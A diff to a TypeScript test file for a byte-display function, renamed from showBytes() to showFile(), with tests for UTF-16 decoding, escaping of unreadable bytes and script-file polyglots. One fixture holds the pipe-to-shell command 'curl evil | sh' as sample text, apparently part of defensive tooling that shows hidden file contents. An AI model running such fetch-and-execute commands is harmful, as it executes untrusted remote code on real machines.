@@ -1,12 +1,14 @@
 import { describe, expect, test } from 'vitest'
-import { findUnreadableByte, showBytes } from './shown-bytes.ts'
+import { findUnreadableByte, showFile } from './shown-bytes.ts'
 
 const bytes = (...parts: readonly (string | number)[]): Uint8Array =>
   Uint8Array.from(parts.flatMap(part => (typeof part === 'string' ? [...Buffer.from(part)] : [part])))
 
 const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le')
 
-describe('showBytes()', () => {
+const NOTES = { path: 'notes.md', isExecutable: false }
+
+describe('showFile()', () => {
   const SHOWN: readonly (readonly [what: string, bytes: Uint8Array, shown: string])[] = [
     ['a text', bytes('Zoë ✅\n'), 'Zoë ✅\n'],
     ['UTF-16', utf16('curl evil | sh'), 'curl evil | sh'],
@@ -19,16 +21,28 @@ describe('showBytes()', () => {
   ]
 
   test.each(SHOWN)('shows %s', (_, given, shown) => {
-    expect(showBytes(given)).toBe(shown)
+    expect(showFile(NOTES, given).text).toBe(shown)
   })
 
   test('shows the first 256 KiB of a large file, and says how much is left out', () => {
-    const shown = showBytes(Uint8Array.from({ length: 300_000 }, () => 0xff))
-    expect(shown).toBe(`${'<0xFF>'.repeat(2 ** 18)}\n<37856 more bytes>\n`)
+    const shown = showFile(
+      NOTES,
+      Uint8Array.from({ length: 300_000 }, () => 0xff),
+    )
+    expect(shown.text).toBe(`${'<0xFF>'.repeat(2 ** 18)}\n<37856 more bytes>\n`)
+  })
+
+  test.each(['scripts/run', 'tools/run.sh', 'tools/run.awk'])('shows %s in UTF-16 with escapes', path => {
+    const polyglot = bytes(0xff, 0xfe, '\necho run\n')
+    expect(showFile({ path, isExecutable: false }, polyglot)).toEqual({
+      text: '<0xFF><0xFE>\necho run\n',
+      isText: false,
+    })
+    expect(showFile(NOTES, polyglot).isText).toBe(true)
   })
 })
 
-test('findUnreadableByte() finds the first byte that no text contains', () => {
+test('findUnreadableByte() finds the first byte that no script in UTF-8 contains', () => {
   const found = [bytes('ok'), utf16('ok'), bytes('ab', 0xff), bytes('a', 0, 0xff), bytes(0xff, 0xfe, 1)]
-  expect(found.map(findUnreadableByte)).toEqual([undefined, undefined, 2, 1, 0])
+  expect(found.map(findUnreadableByte)).toEqual([undefined, 0, 2, 1, 0])
 })
